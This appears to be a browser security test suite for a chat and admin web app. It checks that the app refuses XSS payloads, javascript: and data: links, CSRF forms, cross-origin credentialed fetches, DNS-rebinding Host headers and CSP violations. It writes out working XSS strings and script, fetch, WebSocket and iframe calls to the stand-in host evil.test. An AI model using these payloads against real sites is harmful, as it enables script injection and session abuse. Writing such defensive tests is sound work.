"""What foreign pages, names, requests and texts try against both pages, and the answers that they get."""

import http.client
import http.server
import json
import shutil
import threading

import servers
from browser import TOKEN, answer, ask, check, chromium, context, expect, none, settled, sign_in, url
from checks import section, table
from models import ChatModel, settings
from torii import torii

# A long line, marks that turn the direction of writing, and everything that could become HTML, a script or an address.
PAYLOADS = [
    "<img src=x onerror=window.hacked=1>", "<script>window.hacked=1</script>", "[a](javascript:window.hacked=1)", "<svg/onload=window.hacked=1>",
    "![x](https://evil.test/pixel.png)", "[https://bank.example](https://evil.test)", "\u202egnp.exe", "a\u0000b", "x" * 100_000,
    "<style>*{display:none}</style>", "<iframe src=//evil.test></iframe>", "[d](data:text/html,<script>window.hacked=1</script>)",
    "[b](https://user:pass@evil.test)", "[c](  javascript:window.hacked=1)", "<a href=javascript:window.hacked=1>z</a>", "`<b>`", "```html\n<script>window.hacked=1</script>\n```",
]  # fmt: skip

# Each line is tried by a module of the server itself, because a script of the trial would be exempt from the policy.
MODULE = """
const tried = {
  "innerHTML": () => { document.createElement("div").innerHTML = "<b>x</b>"; },
  "insertAdjacentHTML": () => { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); },
  "DOMParser": () => { new DOMParser().parseFromString("<b>x</b>", "text/html"); },
  "createContextualFragment": () => { document.createRange().createContextualFragment("<b>x</b>"); },
  "document.write": () => { document.write("<b>x</b>"); },
  "eval": () => { eval("1"); },
  "Function": () => { new Function("return 1")(); },
  "a timer with a text": () => { setTimeout("window.hacked = 1"); },
  "an import of data": () => import("data:text/javascript,window.hacked=1"),
  "a connection elsewhere": () => fetch("http://evil.test:PORT/"),
  "a socket elsewhere": () => new Promise((done, fail) => { const one = new WebSocket("ws://evil.test:PORT/"); one.onopen = done; one.onerror = fail; }),
  "a picture elsewhere": () => new Promise((done, fail) => { const one = new Image(); one.onload = done; one.onerror = fail; one.src = "http://evil.test:PORT/x.png"; }),
  "a script elsewhere": () => new Promise((done, fail) => { const one = document.createElement("script"); one.onload = done; one.onerror = fail; one.src = "http://evil.test:PORT/x.js"; document.head.append(one); }),
  "a worker of a text": () => new Worker("data:text/javascript,1"),
  "another policy for HTML": () => { trustedTypes.createPolicy("other", { createHTML: text => text }); },
  "another service worker": () => navigator.serviceWorker.register("/v1/tools"),
};
const results = {};
for (const [name, attempt] of Object.entries(tried)) {
  try { await attempt(); results[name] = "taken"; } catch (error) { results[name] = error?.name ?? "refused"; }
}
const link = document.createElement("a");
link.href = "javascript:window.hacked=1";
document.body.append(link);
link.click();
const frame = document.createElement("iframe");
frame.src = "http://evil.test:PORT/";
document.body.append(frame);
const styled = document.createElement("p");
styled.setAttribute("style", "color: rgb(1, 2, 3)");
document.body.append(styled);
results["a style attribute"] = getComputedStyle(styled).color === "rgb(1, 2, 3)" ? "taken" : "refused";
window.results = results;
"""


class Foreign(http.server.BaseHTTPRequestHandler):
    """A page of another program on the same machine, which counts what it is asked for."""

    asked = []

    def do_GET(self):
        self.asked.append(self.path)
        data = b"<!doctype html><title>foreign</title><body>foreign"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *arguments):
        pass


def say(turn):
    if turn.outputs:
        turn.text("\n\n".join(PAYLOADS))
        return turn.finish()
    # The arguments and the output of a tool are texts from outside too.
    turn.call({"call_1": ("createInventory", {"title": "<img src=x onerror=window.hacked=1>", "quantity": 1, "note": "javascript:window.hacked=1"})})


def perform(playwright, folder):
    foreign = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Foreign)
    threading.Thread(target=foreign.serve_forever, daemon=True).start()
    port = foreign.server_address[1]
    try:
        with chromium(playwright, "--host-resolver-rules=MAP evil.test 127.0.0.1") as browser:
            with torii(folder) as server:
                with section("Foreign pages"), context(browser, watched=False) as opened:
                    foreign_pages(opened, server, port)
                with section("Foreign requests"), context(browser) as opened:
                    foreign_requests(opened, server)
            with section("Origins of other pages"), torii(folder, TORII_WEB_ORIGINS="https://app.example") as server:
                origins(server)
            with section("The policy"), torii(folder, TORII_WEB_DIR=changed(folder, port)) as server, context(browser, watched=False) as opened:
                policy(opened, server)
            model = ChatModel(say)
            with section("Foreign texts"), model.running(), torii(folder, **settings(model)) as server, context(browser) as opened:
                foreign_texts(opened, server)
    finally:
        foreign.shutdown()
        foreign.server_close()


def foreign_pages(opened, server, port):
    page = opened.new_page()
    sign_in(page, server)
    ask(page, "List the inventory")
    answer(page, 0)
    before = len(conversations(server))
    target = url(server)
    other = opened.new_page()
    other.goto(f"http://127.0.0.1:{port}/")
    # The same machine is the same site for browsers: they send the cookie.
    attempts = {
        "a form with text": f"""() => fetch("{target}v1/chat", {{method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({{message: "hacked"}})}}).then(r => r.type, e => "refused")""",
        "a request with JSON": f"""() => fetch("{target}v1/chat", {{method: "POST", credentials: "include", headers: {{"Content-Type": "application/json"}}, body: "{{}}"}}).then(r => r.status, e => "refused")""",
        "the field of the page": f"""() => fetch("{target}v1/conversations", {{credentials: "include", headers: {{"X-Torii": "1"}}}}).then(r => r.status, e => "refused")""",
        "a plain read": f"""() => fetch("{target}v1/conversations", {{credentials: "include"}}).then(r => r.text(), e => "refused")""",
        "a sign-in to another account": f"""() => fetch("{target}v1/session", {{method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({{token: "{TOKEN}"}})}}).then(r => r.type, e => "refused")""",
        "a sign-in to the console": f"""() => fetch("{target}admin/session", {{method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({{token: "{TOKEN}_admin"}})}}).then(r => r.type, e => "refused")""",
        "a script": f"""() => new Promise(done => {{ const node = document.createElement("script"); node.src = "{target}v1/conversations"; node.onload = () => done("loaded"); node.onerror = () => done("refused"); document.head.append(node); }})""",
        "a file of the page": f"""() => fetch("{target}").then(r => r.text(), e => "refused")""",
    }  # fmt: skip
    for name, script in attempts.items():
        result = other.evaluate(script)
        check(f"{name} of another port is refused", result in ("refused", "opaque"), result)
    for path in ("", "admin/"):
        framed = other.evaluate(
            f"""() => new Promise(done => {{ const frame = document.createElement("iframe"); frame.src = "{target}{path}"; frame.onload = () => {{ try {{ done(frame.contentDocument ? "own" : "blocked"); }} catch {{ done("blocked"); }} }}; document.body.append(frame); }})"""
        )
        check(f"a frame of /{path} shows nothing", framed == "blocked", framed)
        shown = [frame for frame in other.frames if frame.url.startswith(target) and frame.locator("#app").count()]
        none(f"frames with /{path}", len(shown))
    with opened.expect_page() as news:
        other.evaluate(f"""() => {{ const form = document.createElement("form"); form.method = "post"; form.action = "{target}v1/chat"; form.target = "_blank"; form.enctype = "text/plain";
            const field = document.createElement("input"); field.name = '{{"message":"hacked'; field.value = '"}}'; form.append(field); document.body.append(form); form.submit(); }}""")
    news.value.wait_for_load_state()
    check("a form that leads to the API is refused", "hacked" not in news.value.content() and len(conversations(server)) == before)
    rebound = opened.new_page()
    response = rebound.goto(f"http://evil.test:{server.port}/")
    check("a foreign name for this machine is refused", response.status == 421, response.status)
    for path in ("/v1/conversations", "/admin/clients", "/metrics", "/openapi.json", "/web/x/chat.js"):
        # The refusal itself has a policy that permits no requests, so the page of the foreign name is opened.
        response = rebound.goto(f"http://evil.test:{server.port}{path}")
        check(f"and reads nothing of {path}", response.status == 421, response.status)
    check("none of them changed anything", len(conversations(server)) == before and "console" not in " ".join(cookie["name"] for cookie in opened.cookies()))
    page.reload()
    answer(page, 0)
    check("the person is signed in as before", page.locator("dialog").count() == 0)


def foreign_requests(opened, server):
    """Requests as other programs make them, with the cookies of both pages."""
    page = opened.new_page()
    sign_in(page, server)
    made = page.evaluate(
        f"""() => fetch("/admin/session", {{method: "POST", headers: {{"Content-Type": "application/json", "X-Torii": "1"}}, body: JSON.stringify({{token: "{TOKEN}_admin"}})}}).then(async r => [r.status, (await r.json()).page_key])"""
    )
    made, console_key = made
    keys = {"admin": console_key, "chat": page.evaluate("() => localStorage['torii-page-key.chat']")}
    check("the console's sign-in gives a second cookie", made == 201 and len(opened.cookies()) == 2, [cookie["name"] for cookie in opened.cookies()])
    cookies = {("admin" if "admin" in cookie["name"] else "chat"): f"{cookie['name']}={cookie['value']}" for cookie in opened.cookies()}
    plain = {"X-Torii": "1", "Sec-Fetch-Site": "same-origin"}
    host = f"127.0.0.1:{server.port}"
    rows = []

    def attempt(name, expected, method, path, fields, body=None):
        status = request(server, method, path, fields, body)
        rows.append([name, f"{method} {path}", status])
        check(f"{name}: {method} {path}", status in expected, status)

    for kind, read, write in (("chat", "/v1/conversations", "/v1/chat"), ("admin", "/admin/clients", "/admin/clients")):
        # Other programs of this machine get the cookie, but not the key, which only pages of this port can read.
        attempt("the cookie alone", {401}, "GET", read, plain | {"Cookie": cookies[kind]})
        attempt("the key of the other page", {401}, "GET", read, plain | {"Cookie": cookies[kind], "Torii-Page-Key": keys["chat" if kind == "admin" else "admin"]})
        own = plain | {"Torii-Page-Key": keys[kind]}
        cookie = {"Cookie": cookies[kind], "Torii-Page-Key": keys[kind]}
        json_type = {"Content-Type": "application/json"}
        attempt("the page itself", {200}, "GET", read, cookie | own)
        attempt("without the page's field", {403}, "GET", read, cookie)
        attempt("without the page's field", {403}, "POST", write, cookie | json_type, b"{}")
        for site in ("same-site", "cross-site", "none"):
            attempt(f"from a page that is {site}", {403}, "GET", read, cookie | own | {"Sec-Fetch-Site": site})
        for origin in ("http://127.0.0.1:1", "https://evil.test", "null", f"https://{host}"):
            attempt(f"with the origin {origin}", {403}, "GET", read, cookie | {"X-Torii": "1", "Origin": origin})
        attempt("with the own origin", {200}, "GET", read, cookie | {"X-Torii": "1", "Origin": f"http://{host}"})
        attempt("a form's type of body", {403, 415}, "POST", write, cookie | own | {"Content-Type": "text/plain"}, b'{"message": "hacked"}')
        attempt("a wrong token beside the cookie", {401}, "GET", read, cookie | own | {"Authorization": "Bearer torii_wrong_0123456789abcdef"})
        attempt("a foreign name", {421}, "GET", read, cookie | own | {"Host": f"evil.test:{server.port}"})
        attempt("another cookie", {401}, "GET", read, own | {"Cookie": cookies[kind].split("=")[0] + "=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"})
    own = plain
    attempt("the chat's cookie at the console", {401, 403}, "GET", "/admin/clients", own | {"Torii-Page-Key": keys["chat"]} | {"Cookie": cookies["chat"]})
    attempt("the console's cookie at the chat", {401, 403}, "GET", "/v1/conversations", own | {"Torii-Page-Key": keys["admin"], "Cookie": cookies["admin"]})
    attempt("a foreign name", {421}, "GET", "/", {"Host": "evil.test"})
    attempt("a foreign name", {421}, "GET", "/admin/", {"Host": "evil.test"})
    attempt("a foreign name at the health check, which is exempt", {200}, "GET", "/healthz", {"Host": "evil.test"})
    for page_name, path in (("chat", "/v1/session"), ("console", "/admin/session")):
        status, made, _ = server.admin("POST", "sign-in-codes", {"page": page_name})
        body = json.dumps({"code": made["code"]}).encode()
        fields = own | {"Content-Type": "application/json"}
        attempt(f"a code for the {page_name} at the other page", {401}, "POST", "/v1/session" if page_name == "console" else "/admin/session", fields, body)
        status, made, _ = server.admin("POST", "sign-in-codes", {"page": page_name})
        body = json.dumps({"code": made["code"]}).encode()
        attempt(f"a code for the {page_name}", {200, 201}, "POST", path, fields, body)
        attempt("the same code again", {401}, "POST", path, fields, body)
    table(["attempt", "request", "answer"], rows)


def request(server, method, path, fields, body=None):
    """Sends exactly these fields; returns the status."""
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
    try:
        connection.request(method, path, body, fields)
        return connection.getresponse().status
    finally:
        connection.close()


def origins(server):
    """A listed origin may call the API with a token; no origin gets cookies, and none gets the console."""
    for origin, path, isListed in (
        ("https://app.example", "/v1/conversations", True), ("https://app.example", "/admin/clients", False), ("https://app.example", "/metrics", False),
        ("https://evil.test", "/v1/conversations", False), ("null", "/v1/conversations", False), ("https://app.example.evil.test", "/v1/conversations", False),
    ):  # fmt: skip
        connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
        connection.request("OPTIONS", path, None, {"Origin": origin, "Access-Control-Request-Method": "GET", "Access-Control-Request-Headers": "authorization"})
        fields = connection.getresponse().headers
        connection.close()
        allowed = fields.get("Access-Control-Allow-Origin")
        check(f"{origin} at {path}", allowed == (origin if isListed else None), allowed)
        check("without cookies", fields.get("Access-Control-Allow-Credentials") is None)


def changed(folder, port):
    """A copy of the page's files whose settings are the attack."""
    copy = folder / "web"
    shutil.copytree(servers.ROOT / "Sources/C/CWebAssets/web", copy)
    (copy / "settings.js").write_text(
        "export function showSettings() {}\nexport function showShortcuts() {}\n" + MODULE.replace("PORT", str(port)), encoding="utf-8"
    )
    return copy


def policy(opened, server):
    Foreign.asked.clear()
    page = opened.new_page()
    sign_in(page, server)
    page.locator(".side .settings").click()
    page.wait_for_function("() => window.results")
    results = page.evaluate("() => window.results")
    for name, result in results.items():
        check(f"the policy refuses {name}", result != "taken", result)
    settled(page)
    check("no script of a text ran", page.evaluate("() => window.hacked") is None)
    none("requests that reached the other server", len(Foreign.asked), Foreign.asked[:3])
    found = set(text.split()[1] for text in opened.watch.violations if text.startswith("CSP "))
    check(
        "the browser reported them",
        {"require-trusted-types-for", "trusted-types", "script-src-elem", "connect-src", "img-src", "frame-src", "style-src-attr"} <= found,
        sorted(found),
    )


def conversations(server):
    return server.send("GET", "/v1/conversations")[1]["conversations"]


def foreign_texts(opened, server):
    page = opened.new_page()
    foreign_requests = []
    page.on(
        "request",
        lambda request: foreign_requests.append(request.url) if not request.url.startswith(url(server)) and not request.url.startswith("blob:") else None,
    )
    sign_in(page, server)
    ask(page, "<img src=x onerror=window.hacked=1>")
    found = answer(page, 0)
    page.locator(".tool summary").first.click()
    expect(page.locator(".tool-body").first).to_contain_text("javascript:window.hacked=1")
    page.locator("button.card").first.click()
    expect(page.locator("dialog h2")).to_have_text("<img src=x onerror=window.hacked=1>")
    page.keyboard.press("Escape")
    settled(page)
    check("nothing of a text is run", page.evaluate("() => window.hacked") is None)
    whole = found.inner_text()
    for text in PAYLOADS[:2] + ["<style>*{display:none}</style>", "x" * 100_000]:
        check(f"'{text[:40]}' is shown as text", text in whole)
    none("requests to other hosts", len(foreign_requests), foreign_requests[:3])
    link = found.locator("a", has_text="bank.example").first
    check("a link that names another host shows where it leads", "evil.test" in link.locator("..").inner_text())
    for name in ["javascript:", "data:"]:
        none(f"links with {name}", page.locator(f"a[href^='{name}']").count())
    for name in ["img", "script", "style", "iframe", "svg:not(.icon)"]:
        none(f"elements {name}", page.locator(f".messages {name}").count())
    wide = page.evaluate("() => document.documentElement.scrollWidth - innerWidth")
    check("a line of 100 kB does not widen the page", wide <= 0, wide)
    page.reload()
    answer(page, 0)
    check("nor is anything run after a reload", page.evaluate("() => window.hacked") is None)
